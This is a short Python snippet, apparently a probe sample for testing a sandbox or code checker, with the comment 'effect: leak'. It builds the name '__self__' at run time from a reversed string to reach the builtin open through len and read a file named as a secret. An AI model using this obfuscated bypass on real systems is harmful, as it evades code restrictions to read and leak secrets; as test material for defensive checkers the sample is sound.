# effect: leak
# note: the name only exists at run time
def attempt(probe):
    name = "__" + "".join(reversed("fles")) + "__"
    return getattr(len, name).open(probe["secret_file"]).read()
